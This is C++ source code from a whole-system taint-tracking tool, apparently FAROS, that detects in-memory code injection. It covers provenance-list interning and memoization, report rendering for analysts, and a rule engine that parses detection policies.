    if (t.type() == TagType::kNetflow && meta.netflow_count < 255) {
      ++meta.netflow_count;
    }
  }
  lists_.push_back(std::move(tags));
  metas_.push_back(meta);
  ProvListId id = static_cast<ProvListId>(lists_.size());
  bucket.push_back(id);
  return id;
}

const std::vector<ProvTag>& ProvStore::get(ProvListId id) const {
  if (id == kEmptyProv) return kEmptyList;
  assert(id <= lists_.size());
  return lists_[id - 1];
}

ProvListId ProvStore::append_slow(ProvListId id, ProvTag tag, u64 memo_key) {
  append_memo_miss_.inc();
  const auto& base = get(id);
  ProvListId result = id;
  if (std::find(base.begin(), base.end(), tag) == base.end()) {
    if (base.size() >= cap_) {
      result = id;  // at capacity: drop the newest tag, keep the origin
    } else {
      std::vector<ProvTag> tags = base;
      tags.push_back(tag);
      result = intern_unique(std::move(tags), /*fallback=*/id);
    }
  }
  append_cache_.insert(memo_key, result);
  return result;
}

ProvListId ProvStore::merge_slow(ProvListId a, ProvListId b, u64 memo_key) {
  merge_memo_miss_.inc();
  std::vector<ProvTag> tags = get(a);
  for (const ProvTag& t : get(b)) {
    if (tags.size() >= cap_) break;
    if (std::find(tags.begin(), tags.end(), t) == tags.end()) {
      tags.push_back(t);
    }
  }
  ProvListId result = intern_unique(std::move(tags), /*fallback=*/a);
  merge_cache_.insert(memo_key, result);
  return result;
}

bool ProvStore::contains_type(ProvListId id, TagType t) const {
  if (id == kEmptyProv) return false;
  assert(id <= metas_.size());
  return (metas_[id - 1].type_mask &
          (1u << (static_cast<u8>(t) - 1))) != 0;
}

u32 ProvStore::process_count(ProvListId id) const {
  if (id == kEmptyProv) return 0;
  assert(id <= metas_.size());
  return metas_[id - 1].process_count;
}

u32 ProvStore::netflow_count(ProvListId id) const {
  if (id == kEmptyProv) return 0;
  assert(id <= metas_.size());
  return metas_[id - 1].netflow_count;
}

bool ProvStore::contains(ProvListId id, ProvTag tag) const {
  const auto& tags = get(id);
  return std::find(tags.begin(), tags.end(), tag) != tags.end();
}

}  // namespace faros::core
