// Interned provenance lists.
//
// A provenance list is the ordered, de-duplicated sequence of prov_tags a
// byte has accumulated (paper Figure 4): first-seen order is chronological,
// so "NetFlow -> inject_client.exe -> notepad.exe" reads as the byte's life
// story. Lists are immutable and hash-consed: the shadow memory stores one
// 32-bit ProvListId per byte (id 0 = untainted), and the propagation
// operations of Table I — copy, union, delete — become id assignments,
// memoized merges, and id 0 respectively. This mirrors how PANDA's taint2
// keeps label sets tractable at whole-system scale.
#pragma once

#include <unordered_map>
#include <vector>

#include "core/tags.h"

namespace faros::core {

using ProvListId = u32;
inline constexpr ProvListId kEmptyProv = 0;

class ProvStore {
 public:
  /// `cap` bounds list length; tags beyond the cap are dropped (keeping the
  /// oldest entries preserves the origin of the flow). `max_lists` bounds
  /// the number of distinct interned lists: a dedicated attacker could try
  /// to exhaust FAROS' memory by manufacturing unique provenance (paper
  /// Section VI-D); past the bound the store degrades gracefully — new
  /// combinations collapse to their left operand instead of interning.
  explicit ProvStore(u32 cap = 64, u32 max_lists = 1u << 22)
      : cap_(cap), max_lists_(max_lists) {}

  /// Interns an arbitrary tag sequence (de-duplicated, first-seen order).
  ProvListId intern(const std::vector<ProvTag>& tags);

  /// The tags of a list, chronological. id 0 yields the empty list.
  const std::vector<ProvTag>& get(ProvListId id) const;

  /// List `id` with `tag` appended (no-op when already present). Memoized.
  ProvListId append(ProvListId id, ProvTag tag);

  /// Union preserving order: all of `a`, then tags of `b` not in `a`
  /// (Table I's union rule). Memoized.
  ProvListId merge(ProvListId a, ProvListId b);

  /// True if the list holds at least one tag of type `t`. O(1).
  bool contains_type(ProvListId id, TagType t) const;

  /// Number of *distinct* process tags in the list (saturates at 255).
  u32 process_count(ProvListId id) const;

  bool contains(ProvListId id, ProvTag tag) const;

  /// Number of distinct lists interned so far (excluding empty).
  size_t size() const { return lists_.size(); }

  u32 cap() const { return cap_; }
  u32 max_lists() const { return max_lists_; }

  /// Times an intern was refused because the store is saturated (an
  /// exhaustion-attack indicator an analyst should look at).
  u64 saturated_ops() const { return saturated_ops_; }

 private:
  struct Meta {
    u8 type_mask = 0;       // bit (type-1) set when a tag of type present
    u8 process_count = 0;   // distinct process tags, saturating
  };

  /// Interns a de-duplicated tag sequence. `fallback` is returned when the
  /// store is saturated and the sequence is new.
  ProvListId intern_unique(std::vector<ProvTag> tags,
                           ProvListId fallback = kEmptyProv);
  static u64 hash_tags(const std::vector<ProvTag>& tags);

  u32 cap_;
  u32 max_lists_;
  u64 saturated_ops_ = 0;
  std::vector<std::vector<ProvTag>> lists_;  // index = id - 1
  std::vector<Meta> metas_;
  std::unordered_map<u64, std::vector<ProvListId>> by_hash_;
  std::unordered_map<u64, ProvListId> append_cache_;
  std::unordered_map<u64, ProvListId> merge_cache_;
};

}  // namespace faros::core
