// Interned provenance lists.
//
// A provenance list is the ordered, de-duplicated sequence of prov_tags a
// byte has accumulated (paper Figure 4): first-seen order is chronological,
// so "NetFlow -> inject_client.exe -> notepad.exe" reads as the byte's life
// story. Lists are immutable and hash-consed: the shadow memory stores one
// 32-bit ProvListId per byte (id 0 = untainted), and the propagation
// operations of Table I — copy, union, delete — become id assignments,
// memoized merges, and id 0 respectively. This mirrors how PANDA's taint2
// keeps label sets tractable at whole-system scale.
#pragma once

#include <unordered_map>
#include <vector>

#include "core/tags.h"
#include "obs/obs.h"

namespace faros::core {

using ProvListId = u32;
inline constexpr ProvListId kEmptyProv = 0;

/// Open-addressed, linear-probe memo table (u64 key -> ProvListId) for the
/// merge/append hot paths. Compared to std::unordered_map this is one flat
/// allocation, probes are sequential in memory, and a hit is typically one
/// mix + one compare. Key 0 is the empty-slot sentinel; both memo key
/// encodings below are nonzero by construction (merge keys carry a nonzero
/// id in each half; append keys carry a ProvTag::key(), whose type byte is
/// >= 1). A key of 0 is simply not cached.
class MemoCache {
 public:
  MemoCache() : slots_(kInitialSlots) {}

  /// Pointer to the memoized value for `key`, or nullptr when absent.
  const ProvListId* find(u64 key) const {
    const size_t mask = slots_.size() - 1;
    for (size_t i = mix(key) & mask;; i = (i + 1) & mask) {
      const Slot& s = slots_[i];
      if (s.key == key) return &s.val;
      if (s.key == 0) return nullptr;
    }
  }

  void insert(u64 key, ProvListId val) {
    if (key == 0) return;  // sentinel collision: skip memoization
    if ((used_ + 1) * 10 >= slots_.size() * 7) grow();  // keep load < 0.7
    const size_t mask = slots_.size() - 1;
    for (size_t i = mix(key) & mask;; i = (i + 1) & mask) {
      Slot& s = slots_[i];
      if (s.key == key) {
        s.val = val;
        return;
      }
      if (s.key == 0) {
        s.key = key;
        s.val = val;
        ++used_;
        return;
      }
    }
  }

  size_t size() const { return used_; }

 private:
  static constexpr size_t kInitialSlots = 1u << 10;  // power of two

  struct Slot {
    u64 key = 0;
    ProvListId val = kEmptyProv;
  };

  /// splitmix64 finalizer: spreads the structured (id<<32)|x keys so the
  /// low bits used for slot selection are well mixed.
  static u64 mix(u64 x) {
    x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ull;
    x = (x ^ (x >> 27)) * 0x94d049bb133111ebull;
    return x ^ (x >> 31);
  }

  void grow() {
    std::vector<Slot> old = std::move(slots_);
    slots_.assign(old.size() * 2, Slot{});
    const size_t mask = slots_.size() - 1;
    for (const Slot& s : old) {
      if (s.key == 0) continue;
      size_t i = mix(s.key) & mask;
      while (slots_[i].key != 0) i = (i + 1) & mask;
      slots_[i] = s;
    }
  }

  std::vector<Slot> slots_;
  size_t used_ = 0;
};

class ProvStore {
 public:
  /// `cap` bounds list length; tags beyond the cap are dropped (keeping the
  /// oldest entries preserves the origin of the flow). `max_lists` bounds
  /// the number of distinct interned lists: a dedicated attacker could try
  /// to exhaust FAROS' memory by manufacturing unique provenance (paper
  /// Section VI-D); past the bound the store degrades gracefully — new
  /// combinations collapse to their left operand instead of interning.
  explicit ProvStore(u32 cap = 64, u32 max_lists = 1u << 22)
      : cap_(cap), max_lists_(max_lists) {}

  /// Interns an arbitrary tag sequence (de-duplicated, first-seen order).
  ProvListId intern(const std::vector<ProvTag>& tags);

  /// The tags of a list, chronological. id 0 yields the empty list.
  const std::vector<ProvTag>& get(ProvListId id) const;

  /// List `id` with `tag` appended (no-op when already present). Memoized;
  /// the empty-operand early-outs and memo probe are inline — the common
  /// case never leaves the header.
  ProvListId append(ProvListId id, ProvTag tag) {
    u64 key = (static_cast<u64>(id) << 32) | tag.key();
    if (const ProvListId* hit = append_cache_.find(key)) {
      append_memo_hit_.inc();
      return *hit;
    }
    return append_slow(id, tag, key);
  }

  /// Union preserving order: all of `a`, then tags of `b` not in `a`
  /// (Table I's union rule). Memoized, inline fast path as for append().
  ProvListId merge(ProvListId a, ProvListId b) {
    if (a == b || b == kEmptyProv) return a;
    if (a == kEmptyProv) return b;
    u64 key = (static_cast<u64>(a) << 32) | b;
    if (const ProvListId* hit = merge_cache_.find(key)) {
      merge_memo_hit_.inc();
      return *hit;
    }
    return merge_slow(a, b, key);
  }

  /// True if the list holds at least one tag of type `t`. O(1).
  bool contains_type(ProvListId id, TagType t) const;

  /// Number of *distinct* process tags in the list (saturates at 255).
  u32 process_count(ProvListId id) const;

  /// Number of *distinct* netflow tags in the list (saturates at 255).
  /// O(1) like process_count; the rule engine's distinct-netflows>=N
  /// predicate (multi-stage C2 assembly) reads this on the flagging path.
  u32 netflow_count(ProvListId id) const;

  bool contains(ProvListId id, ProvTag tag) const;

  /// Number of distinct lists interned so far (excluding empty).
  size_t size() const { return lists_.size(); }

  /// Walks every interned list in id order (1..size()), calling
  /// `fn(ProvListId, const std::vector<ProvTag>&)`. The graph exporter
  /// (src/graph) materializes the store through this; iteration order is
  /// intern order, so walks are deterministic.
  template <typename Fn>
  void for_each_list(Fn&& fn) const {
    for (ProvListId id = 1; id <= lists_.size(); ++id) {
      fn(id, lists_[id - 1]);
    }
  }

  u32 cap() const { return cap_; }
  u32 max_lists() const { return max_lists_; }

  /// Times an intern was refused because the store is saturated (an
  /// exhaustion-attack indicator an analyst should look at).
  u64 saturated_ops() const { return saturated_ops_; }

  /// Binds the memo-table hit/miss counters to `sink` (null unbinds).
  /// Trivial-identity merges (empty operand, a == b) are not counted —
  /// the memo rates describe the tables, not the early-outs.
  void bind_obs(obs::MetricSink* sink) {
    merge_memo_hit_ = {sink, obs::Ctr::kMergeMemoHit};
    merge_memo_miss_ = {sink, obs::Ctr::kMergeMemoMiss};
    append_memo_hit_ = {sink, obs::Ctr::kAppendMemoHit};
    append_memo_miss_ = {sink, obs::Ctr::kAppendMemoMiss};
  }

 private:
  struct Meta {
    u8 type_mask = 0;       // bit (type-1) set when a tag of type present
    u8 process_count = 0;   // distinct process tags, saturating
    u8 netflow_count = 0;   // distinct netflow tags, saturating
  };

  ProvListId append_slow(ProvListId id, ProvTag tag, u64 memo_key);
  ProvListId merge_slow(ProvListId a, ProvListId b, u64 memo_key);

  /// Interns a de-duplicated tag sequence. `fallback` is returned when the
  /// store is saturated and the sequence is new.
  ProvListId intern_unique(std::vector<ProvTag> tags,
                           ProvListId fallback = kEmptyProv);
  static u64 hash_tags(const std::vector<ProvTag>& tags);

  u32 cap_;
  u32 max_lists_;
  u64 saturated_ops_ = 0;
  std::vector<std::vector<ProvTag>> lists_;  // index = id - 1
  std::vector<Meta> metas_;
  std::unordered_map<u64, std::vector<ProvListId>> by_hash_;
  MemoCache append_cache_;
  MemoCache merge_cache_;
  obs::Counter merge_memo_hit_;
  obs::Counter merge_memo_miss_;
  obs::Counter append_memo_hit_;
  obs::Counter append_memo_miss_;
};

}  // namespace faros::core
