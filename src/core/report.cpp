#include "core/report.h"

#include "common/strings.h"
#include "vm/isa.h"

namespace faros::core {

std::string render_code_window(const Finding& f) {
  std::string out;
  for (size_t off = 0; off + vm::kInsnSize <= f.code_window.size();
       off += vm::kInsnSize) {
    VAddr va = f.code_base + static_cast<u32>(off);
    auto insn = vm::decode(
        ByteSpan(f.code_window.data() + off, vm::kInsnSize));
    out += strf("  %s %s  %s\n", va == f.insn_va ? "=>" : "  ",
                hex32(va).c_str(),
                insn ? vm::disassemble(*insn).c_str() : "(data)");
  }
  return out;
}

std::string render_chain(const ProvStore& store, const TagMaps& maps,
                         ProvListId id) {
  const auto& tags = store.get(id);
  if (tags.empty()) return "(untainted)";
  std::string out;
  for (size_t i = 0; i < tags.size(); ++i) {
    if (i) out += " ->";
    out += maps.describe(tags[i]);
  }
  return out;
}

std::string render_findings_table(const std::vector<Finding>& findings,
                                  const ProvStore& store,
                                  const TagMaps& maps) {
  std::string out;
  out += "Memory Address  Provenance List\n";
  for (const Finding& f : findings) {
    out += strf("%-15s %s;%s\n", hex32(f.insn_va).c_str(),
                render_chain(store, maps, f.fetch_prov).c_str(),
                f.whitelisted ? "  [whitelisted]" : "");
  }
  return out;
}

std::string render_finding_detail(const Finding& f, const ProvStore& store,
                                  const TagMaps& maps) {
  std::string out;
  out += strf("policy: %s%s\n", f.policy.c_str(),
              f.whitelisted ? " [whitelisted]" : "");
  out += strf("instruction: %s @ %s (process %s, pid %u, instr #%llu)\n",
              f.disasm.c_str(), hex32(f.insn_va).c_str(),
              f.proc.name.c_str(), f.proc.pid,
              static_cast<unsigned long long>(f.instr_index));
  out += strf("  provenance of instruction bytes: %s\n",
              render_chain(store, maps, f.fetch_prov).c_str());
  out += strf("  read target %s, provenance: %s\n",
              hex32(f.target_va).c_str(),
              render_chain(store, maps, f.target_prov).c_str());
  if (!f.code_window.empty()) {
    out += "  injected code around the flagged instruction:\n";
    out += render_code_window(f);
  }
  return out;
}

namespace {

std::string json_escape(const std::string& s) {
  std::string out;
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          out += strf("\\u%04x", c);
        } else {
          out += c;
        }
    }
  }
  return out;
}

std::string json_chain(const ProvStore& store, const TagMaps& maps,
                       ProvListId id) {
  std::string out = "[";
  const auto& tags = store.get(id);
  for (size_t i = 0; i < tags.size(); ++i) {
    if (i) out += ",";
    out += "\"" + json_escape(maps.describe(tags[i])) + "\"";
  }
  return out + "]";
}

}  // namespace

std::string render_findings_json(const std::vector<Finding>& findings,
                                 const ProvStore& store,
                                 const TagMaps& maps) {
  std::string out = "[\n";
  for (size_t i = 0; i < findings.size(); ++i) {
    const Finding& f = findings[i];
    out += "  {";
    out += "\"policy\":\"" + json_escape(f.policy) + "\",";
    out += strf("\"instr_index\":%llu,",
                static_cast<unsigned long long>(f.instr_index));
    out += "\"process\":\"" + json_escape(f.proc.name) + "\",";
    out += strf("\"pid\":%u,", f.proc.pid);
    out += "\"insn_va\":\"" + hex32(f.insn_va) + "\",";
    out += "\"disasm\":\"" + json_escape(f.disasm) + "\",";
    out += "\"target_va\":\"" + hex32(f.target_va) + "\",";
    out += strf("\"whitelisted\":%s,", f.whitelisted ? "true" : "false");
    out += "\"instruction_provenance\":" + json_chain(store, maps,
                                                      f.fetch_prov) + ",";
    out += "\"target_provenance\":" + json_chain(store, maps, f.target_prov);
    out += i + 1 < findings.size() ? "},\n" : "}\n";
  }
  return out + "]\n";
}

}  // namespace faros::core
