// Findings and analyst-facing report rendering (paper Table II / Figures
// 7-10): every flagged instruction with its address and full provenance
// chain, so the reverse engineer gets the payload's life story for free.
#pragma once

#include <string>
#include <vector>

#include "core/provenance.h"
#include "introspection/monitor.h"

namespace faros::core {

struct Finding {
  std::string policy;        // which invariant fired
  u64 instr_index = 0;       // global retired-instruction index
  osi::ProcessInfo proc;     // the process executing the injected code
  VAddr insn_va = 0;         // virtual address of the flagged instruction
  PAddr insn_pa = 0;
  std::string disasm;        // e.g. "ld32 r0, [r11+4]"
  VAddr target_va = 0;       // address the instruction read (export table)
  ProvListId fetch_prov = kEmptyProv;   // provenance of the insn bytes
  ProvListId target_prov = kEmptyProv;  // provenance of the read bytes
  bool whitelisted = false;  // suppressed by the analyst whitelist
  /// Recorded by a warn-action rule: visible to the analyst (report,
  /// active_findings) but does not flip the machine verdict (flagged()).
  bool warn_only = false;

  /// Code window captured at flag time: the instruction bytes surrounding
  /// the flagged pc (so the analyst sees the injected code even if it is
  /// transient and wipes itself later). `code_base` is the va of byte 0.
  VAddr code_base = 0;
  Bytes code_window;
};

/// Disassembles a captured code window, marking the flagged instruction.
std::string render_code_window(const Finding& f);

/// Renders a provenance list as the paper draws it:
/// "NetFlow: {src ip,port: ...} ->Process: inject_client.exe ->...".
std::string render_chain(const ProvStore& store, const TagMaps& maps,
                         ProvListId id);

/// Table II-style report: one row per flagged instruction address with its
/// provenance list.
std::string render_findings_table(const std::vector<Finding>& findings,
                                  const ProvStore& store,
                                  const TagMaps& maps);

/// One-finding detail block (Figures 7-10 style): the instruction, the
/// provenance of its bytes, and the provenance of the memory it read.
std::string render_finding_detail(const Finding& f, const ProvStore& store,
                                  const TagMaps& maps);

/// Machine-readable export (JSON array) for downstream triage tooling.
std::string render_findings_json(const std::vector<Finding>& findings,
                                 const ProvStore& store, const TagMaps& maps);

}  // namespace faros::core
