#include "core/rules.h"

#include "common/json.h"

namespace faros::core {

namespace {

/// Tag-type spelling in the predicate grammar (kebab-case, unlike the
/// report-facing tag_type_name()).
const char* type_token(TagType t) {
  switch (t) {
    case TagType::kNetflow: return "netflow";
    case TagType::kProcess: return "process";
    case TagType::kFile: return "file";
    case TagType::kExportTable: return "export-table";
  }
  return "?";
}

Result<TagType> parse_type_token(std::string_view s) {
  if (s == "netflow") return TagType::kNetflow;
  if (s == "process") return TagType::kProcess;
  if (s == "file") return TagType::kFile;
  if (s == "export-table") return TagType::kExportTable;
  return Err<TagType>("unknown tag type '" + std::string(s) + "'");
}

const char* subject_token(Subject s) {
  switch (s) {
    case Subject::kFetch: return "fetch";
    case Subject::kTarget: return "target";
    case Subject::kValue: return "value";
  }
  return "?";
}

Result<Subject> parse_subject_token(std::string_view s) {
  if (s == "fetch") return Subject::kFetch;
  if (s == "target") return Subject::kTarget;
  if (s == "value") return Subject::kValue;
  return Err<Subject>("unknown subject '" + std::string(s) + "'");
}

Result<u32> parse_threshold(std::string_view s) {
  if (s.empty() || s.size() > 9) {
    return Err<u32>("bad threshold '" + std::string(s) + "'");
  }
  u32 n = 0;
  for (char c : s) {
    if (c < '0' || c > '9') {
      return Err<u32>("bad threshold '" + std::string(s) + "'");
    }
    n = n * 10 + static_cast<u32>(c - '0');
  }
  return n;
}

}  // namespace

const char* trigger_name(Trigger t) {
  switch (t) {
    case Trigger::kTaintedLoad: return "tainted-load";
    case Trigger::kTaintedStore: return "tainted-store";
    case Trigger::kExecPageWrite: return "exec-page-write";
    case Trigger::kTaintedFetch: return "tainted-fetch";
    case Trigger::kSyscallArg: return "syscall-arg";
  }
  return "?";
}

Result<Trigger> parse_trigger(std::string_view s) {
  if (s == "tainted-load") return Trigger::kTaintedLoad;
  if (s == "tainted-store") return Trigger::kTaintedStore;
  if (s == "exec-page-write") return Trigger::kExecPageWrite;
  if (s == "tainted-fetch") return Trigger::kTaintedFetch;
  if (s == "syscall-arg") return Trigger::kSyscallArg;
  return Err<Trigger>("unknown trigger '" + std::string(s) + "'");
}

const char* action_name(RuleAction a) {
  switch (a) {
    case RuleAction::kFlag: return "flag";
    case RuleAction::kWarn: return "warn";
    case RuleAction::kSuppress: return "suppress";
  }
  return "?";
}

Result<RuleAction> parse_action(std::string_view s) {
  if (s == "flag") return RuleAction::kFlag;
  if (s == "warn") return RuleAction::kWarn;
  if (s == "suppress") return RuleAction::kSuppress;
  return Err<RuleAction>("unknown action '" + std::string(s) + "'");
}

std::string predicate_str(const Predicate& p) {
  std::string out;
  switch (p.kind) {
    case Predicate::Kind::kHasType:
      out = std::string(subject_token(p.subject)) +
            " has-type:" + type_token(p.type);
      break;
    case Predicate::Kind::kProcessCountGe:
      out = std::string(subject_token(p.subject)) +
            " process-count>=" + std::to_string(p.n);
      break;
    case Predicate::Kind::kDistinctNetflowsGe:
      out = std::string(subject_token(p.subject)) +
            " distinct-netflows>=" + std::to_string(p.n);
      break;
    case Predicate::Kind::kPageFlagExec: out = "page-flag:exec"; break;
  }
  return out;
}

Result<Predicate> parse_predicate(std::string_view s) {
  Predicate p;
  if (s == "page-flag:exec") {
    p.kind = Predicate::Kind::kPageFlagExec;
    return p;
  }
  size_t space = s.find(' ');
  if (space == std::string_view::npos) {
    return Err<Predicate>("bad predicate '" + std::string(s) +
                          "' (expected '<subject> <check>')");
  }
  auto subject = parse_subject_token(s.substr(0, space));
  if (!subject.ok()) return Err<Predicate>(subject.error().message);
  p.subject = subject.value();
  std::string_view check = s.substr(space + 1);
  if (check.rfind("has-type:", 0) == 0) {
    auto type = parse_type_token(check.substr(9));
    if (!type.ok()) return Err<Predicate>(type.error().message);
    p.kind = Predicate::Kind::kHasType;
    p.type = type.value();
    return p;
  }
  if (check.rfind("process-count>=", 0) == 0) {
    auto n = parse_threshold(check.substr(15));
    if (!n.ok()) return Err<Predicate>(n.error().message);
    p.kind = Predicate::Kind::kProcessCountGe;
    p.n = n.value();
    return p;
  }
  if (check.rfind("distinct-netflows>=", 0) == 0) {
    auto n = parse_threshold(check.substr(19));
    if (!n.ok()) return Err<Predicate>(n.error().message);
    p.kind = Predicate::Kind::kDistinctNetflowsGe;
    p.n = n.value();
    return p;
  }
  return Err<Predicate>("unknown predicate check '" + std::string(check) +
                        "'");
}

std::vector<RuleSpec> builtin_rules(bool netflow_export,
                                    bool cross_process_export,
                                    bool tainted_code_write) {
  std::vector<RuleSpec> out;
  if (netflow_export) {
    RuleSpec r;
    r.id = "netflow-export-confluence";
    r.trigger = Trigger::kTaintedLoad;
    r.when = {
        Predicate{Predicate::Kind::kHasType, Subject::kTarget,
                  TagType::kExportTable, 0},
        Predicate{Predicate::Kind::kHasType, Subject::kFetch,
                  TagType::kNetflow, 0},
    };
    out.push_back(std::move(r));
  }
  if (cross_process_export) {
    RuleSpec r;
    r.id = "cross-process-export-confluence";
    r.trigger = Trigger::kTaintedLoad;
    r.when = {
        Predicate{Predicate::Kind::kHasType, Subject::kTarget,
                  TagType::kExportTable, 0},
        Predicate{Predicate::Kind::kProcessCountGe, Subject::kFetch,
                  TagType::kNetflow, 2},
    };
    out.push_back(std::move(r));
  }
  if (tainted_code_write) {
    RuleSpec r;
    r.id = "tainted-code-write";
    r.trigger = Trigger::kExecPageWrite;
    r.when = {
        Predicate{Predicate::Kind::kHasType, Subject::kValue,
                  TagType::kNetflow, 0},
    };
    out.push_back(std::move(r));
  }
  return out;
}

Result<std::vector<RuleSpec>> parse_ruleset_json(std::string_view text) {
  using Rules = std::vector<RuleSpec>;
  auto doc = json_parse(text);
  if (!doc.ok()) {
    return Err<Rules>("policy file: " + doc.error().message);
  }
  const JsonValue& root = doc.value();
  if (!root.is_object()) {
    return Err<Rules>("policy file: top level must be an object");
  }
  for (const auto& [key, _] : root.members) {
    if (key != "rules") {
      return Err<Rules>("policy file: unknown top-level key '" + key + "'");
    }
  }
  const JsonValue* rules = root.get("rules");
  if (!rules || !rules->is_array()) {
    return Err<Rules>("policy file: missing \"rules\" array");
  }
  Rules out;
  for (size_t i = 0; i < rules->items.size(); ++i) {
    const JsonValue& jr = rules->items[i];
    std::string where = "rule #" + std::to_string(i);
    if (!jr.is_object()) return Err<Rules>(where + ": must be an object");
    RuleSpec spec;
    for (const auto& [key, val] : jr.members) {
      if (key == "id") {
        if (!val.is_string() || val.string.empty()) {
          return Err<Rules>(where + ": \"id\" must be a non-empty string");
        }
        spec.id = val.string;
      } else if (key == "trigger") {
        if (!val.is_string()) {
          return Err<Rules>(where + ": \"trigger\" must be a string");
        }
        auto t = parse_trigger(val.string);
        if (!t.ok()) return Err<Rules>(where + ": " + t.error().message);
        spec.trigger = t.value();
      } else if (key == "action") {
        if (!val.is_string()) {
          return Err<Rules>(where + ": \"action\" must be a string");
        }
        auto a = parse_action(val.string);
        if (!a.ok()) return Err<Rules>(where + ": " + a.error().message);
        spec.action = a.value();
      } else if (key == "when") {
        if (!val.is_array()) {
          return Err<Rules>(where + ": \"when\" must be an array");
        }
        for (const JsonValue& jp : val.items) {
          if (!jp.is_string()) {
            return Err<Rules>(where + ": predicates must be strings");
          }
          auto p = parse_predicate(jp.string);
          if (!p.ok()) return Err<Rules>(where + ": " + p.error().message);
          spec.when.push_back(p.value());
        }
      } else {
        return Err<Rules>(where + ": unknown key '" + key + "'");
      }
    }
    if (spec.id.empty()) return Err<Rules>(where + ": missing \"id\"");
    if (!jr.get("trigger")) return Err<Rules>(where + ": missing \"trigger\"");
    // Count predicates compare against ProvStore Meta fields, which are u8
    // and saturate at 255 (provenance.h): a threshold above that can never
    // be met, so the rule would load fine and silently never fire. Reject
    // at policy-load time, naming the rule.
    for (const Predicate& p : spec.when) {
      if ((p.kind == Predicate::Kind::kProcessCountGe ||
           p.kind == Predicate::Kind::kDistinctNetflowsGe) &&
          p.n > 255) {
        return Err<Rules>(where + ": rule '" + spec.id + "': threshold " +
                          std::to_string(p.n) + " in '" + predicate_str(p) +
                          "' exceeds 255 (counts saturate at 255, so the "
                          "predicate is unsatisfiable)");
      }
    }
    for (const RuleSpec& prev : out) {
      if (prev.id == spec.id) {
        return Err<Rules>(where + ": duplicate rule id '" + spec.id + "'");
      }
    }
    out.push_back(std::move(spec));
  }
  return out;
}

std::string ruleset_json(const std::vector<RuleSpec>& rules) {
  std::string arr = "[";
  for (size_t i = 0; i < rules.size(); ++i) {
    const RuleSpec& r = rules[i];
    if (i) arr += ',';
    JsonWriter w;
    w.field("id", r.id);
    w.field("trigger", trigger_name(r.trigger));
    w.field("action", action_name(r.action));
    std::string when = "[";
    for (size_t j = 0; j < r.when.size(); ++j) {
      if (j) when += ',';
      when += '"' + json_escape(predicate_str(r.when[j])) + '"';
    }
    when += ']';
    w.raw_field("when", when);
    arr += w.str();
  }
  arr += ']';
  JsonWriter top;
  top.raw_field("rules", arr);
  return top.str();
}

// ---------------------------------------------------------------------------

void RuleEngine::configure(const std::vector<RuleSpec>& specs) {
  std::vector<CompiledRule> kept;
  for (CompiledRule& r : rules_) {
    if (r.native) kept.push_back(std::move(r));
  }
  rules_.clear();
  for (const RuleSpec& s : specs) {
    CompiledRule r;
    r.spec = s;
    rules_.push_back(std::move(r));
  }
  for (CompiledRule& r : kept) rules_.push_back(std::move(r));
  rebuild_index();
}

void RuleEngine::add_native(std::unique_ptr<FlagPolicy> policy) {
  CompiledRule r;
  r.spec.id = policy->name();
  r.spec.trigger = Trigger::kTaintedLoad;
  r.spec.action = RuleAction::kFlag;
  r.native = std::move(policy);
  rules_.push_back(std::move(r));
  rebuild_index();
}

void RuleEngine::set_static_mask(u8 mask) {
  static_mask_ =
      mask & static_cast<u8>(
                 ~(1u << static_cast<u32>(Trigger::kTaintedFetch)));
}

void RuleEngine::bind_obs(obs::MetricSink* sink) {
  eval_ctr_[static_cast<u32>(Trigger::kTaintedLoad)] = {
      sink, obs::Ctr::kRuleEvalsTaintedLoad};
  eval_ctr_[static_cast<u32>(Trigger::kTaintedStore)] = {
      sink, obs::Ctr::kRuleEvalsTaintedStore};
  eval_ctr_[static_cast<u32>(Trigger::kExecPageWrite)] = {
      sink, obs::Ctr::kRuleEvalsExecPageWrite};
  eval_ctr_[static_cast<u32>(Trigger::kTaintedFetch)] = {
      sink, obs::Ctr::kRuleEvalsTaintedFetch};
  eval_ctr_[static_cast<u32>(Trigger::kSyscallArg)] = {
      sink, obs::Ctr::kRuleEvalsSyscallArg};
  match_ctr_ = {sink, obs::Ctr::kRuleMatches};
}

void RuleEngine::rebuild_index() {
  for (auto& v : index_) v.clear();
  needs_value_.fill(false);
  needs_page_flags_.fill(false);
  for (u32 i = 0; i < rules_.size(); ++i) {
    const CompiledRule& r = rules_[i];
    u32 t = static_cast<u32>(r.spec.trigger);
    index_[t].push_back(i);
    if (r.native) continue;
    for (const Predicate& p : r.spec.when) {
      if (p.kind == Predicate::Kind::kPageFlagExec) {
        // exec-page-write implies the flag by construction.
        if (r.spec.trigger != Trigger::kExecPageWrite) {
          needs_page_flags_[t] = true;
        }
      } else if (p.subject == Subject::kValue) {
        needs_value_[t] = true;
      }
    }
  }
}

bool RuleEngine::matches(const CompiledRule& r, const ProvStore& store,
                         const RuleInputs& in) const {
  if (r.native) return r.native->matches(store, in.fetch, in.target);
  for (const Predicate& p : r.spec.when) {
    ProvListId subj = kEmptyProv;
    switch (p.subject) {
      case Subject::kFetch: subj = in.fetch; break;
      case Subject::kTarget: subj = in.target; break;
      case Subject::kValue: subj = in.value; break;
    }
    bool ok = false;
    switch (p.kind) {
      case Predicate::Kind::kHasType:
        ok = store.contains_type(subj, p.type);
        break;
      case Predicate::Kind::kProcessCountGe:
        ok = store.process_count(subj) >= p.n;
        break;
      case Predicate::Kind::kDistinctNetflowsGe:
        ok = store.netflow_count(subj) >= p.n;
        break;
      case Predicate::Kind::kPageFlagExec: ok = in.page_exec; break;
    }
    if (!ok) return false;
  }
  return true;
}

u32 RuleEngine::dispatch(Trigger t, const ProvStore& store,
                         const RuleInputs& in, std::vector<u32>& matched) {
  matched.clear();
  const std::vector<u32>& idx = index_[static_cast<u32>(t)];
  bool suppressed = false;
  for (u32 i : idx) {
    CompiledRule& r = rules_[i];
    ++r.stats.evals;
    if (!matches(r, store, in)) continue;
    ++r.stats.hits;
    match_ctr_.inc();
    if (r.spec.action == RuleAction::kSuppress) {
      suppressed = true;
    } else {
      matched.push_back(i);
    }
  }
  if (suppressed) matched.clear();
  eval_ctr_[static_cast<u32>(t)].inc(idx.size());
  return static_cast<u32>(idx.size());
}

std::vector<RuleSpec> RuleEngine::specs() const {
  std::vector<RuleSpec> out;
  out.reserve(rules_.size());
  for (const CompiledRule& r : rules_) out.push_back(r.spec);
  return out;
}

